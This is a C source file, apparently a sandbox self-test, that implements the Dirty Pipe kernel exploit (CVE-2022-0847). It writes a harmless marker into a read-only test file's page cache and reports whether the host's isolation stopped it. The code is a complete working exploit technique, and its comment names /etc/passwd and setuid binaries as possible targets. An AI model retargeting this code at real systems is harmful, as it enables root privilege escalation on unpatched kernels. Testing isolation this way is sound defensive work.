/* Dirty Pipe, CVE-2022-0847 (https://dirtypipe.cm4all.com/): a pipe
 * buffer left with PIPE_BUF_FLAG_CAN_MERGE lets a write into the pipe
 * land in the page-cache page that splice() put there, i.e. in a file
 * opened read-only (a read-only bind mount, /etc/passwd, a setuid
 * binary). The target is /ro/target, a host file of the runner's bind-
 * mounted read-only; the runner checks whether its content changed.
 * Fixed in Linux 5.16.11/5.15.25/5.10.102: on a patched kernel the
 * control fails, which is the honest result. */
#include "attack.h"

#include <fcntl.h>
#include <unistd.h>

int attack_dirty_pipe(void) {
    int fd = open("/ro/target", O_RDONLY);
    if (fd < 0)
        BLOCKED_ERRNO("open /ro/target");
    int p[2];
    if (pipe(p) < 0)
        BLOCKED_ERRNO("pipe");
    long size = fcntl(p[1], F_GETPIPE_SZ);
    if (size <= 0)
        size = 65536;
    /* Fill and drain every buffer of the ring so each has CAN_MERGE. */
    static char page[4096];
    for (long left = size; left > 0; left -= (long)sizeof page)
        if (write(p[1], page, sizeof page) < 0)
            BLOCKED_ERRNO("fill the pipe");
    for (long left = size; left > 0; left -= (long)sizeof page)
        if (read(p[0], page, sizeof page) < 0)
            BLOCKED_ERRNO("drain the pipe");
    loff_t off = 0;
    long n = splice(fd, &off, p[1], NULL, 1, 0);
    if (n != 1)
        BLOCKED_ERRNO("splice one byte of the file into the pipe");
    const char payload[] = "SELFTEST-DIRTY";
    if (write(p[1], payload, sizeof payload - 1) != (long)sizeof payload - 1)
        BLOCKED_ERRNO("write into the pipe after the splice");
    char back[32] = "";
    if (pread(fd, back, sizeof payload - 1, 1) < 0)
        BLOCKED_ERRNO("read the file back");
    if (memcmp(back, payload, sizeof payload - 1) != 0)
        BLOCKED("the write did not reach the file's page cache (the file is unchanged)");
    WORKED("wrote into a read-only file's page cache through a pipe");
}
